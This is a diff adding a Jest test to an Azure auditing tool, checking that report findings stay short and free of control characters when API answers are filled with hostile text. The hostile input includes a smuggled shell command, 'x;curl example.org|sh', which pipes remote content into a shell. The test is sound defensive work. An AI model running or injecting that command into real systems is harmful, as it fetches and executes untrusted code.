@@ -1,6 +1,7 @@
 import { describe, expect, it } from '@jest/globals'
 import type { ResourceId } from '../../../../src/arm/resource-id.ts'
 import type { Azure } from '../../../../src/azure/index.ts'
+import { hostile } from '../../report/hostile-texts.ts'
 import { healthyKit, judge, stored } from './rules-kit.ts'
 
 type Answers = Map<string, unknown>
@@ -64,7 +65,23 @@ function membersOf(answers: Answers): readonly string[] {
   return [...names]
 }
 
+const HOSTILE = [...Object.values(hostile), 'x;curl example.org|sh', 'x'.repeat(100_000)].join('')
+
 describe('answers of Azure', () => {
+  it('reach findings on one line each, and commands as one word', async () => {
+    const kit = busyKit()
+    const answers: Answers = new Map()
+    await judge(kit, { azure: recording(answers) })
+    for (const name of membersOf(answers)) {
+      const changed = repeating(answers, answer => withMember(answer, name, HOSTILE))
+      for (const { subject, evidence, remedy } of await judge(kit, { azure: changed })) {
+        expect(subject.length).toBeLessThanOrEqual(500)
+        expect(evidence.length + remedy.length).toBeLessThanOrEqual(8000)
+        expect(`${subject}${evidence}${remedy}`).not.toMatch(/[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u)
+      }
+    }
+  })
+
   it.each([
     ['null', null],
     ['an empty object', {}],
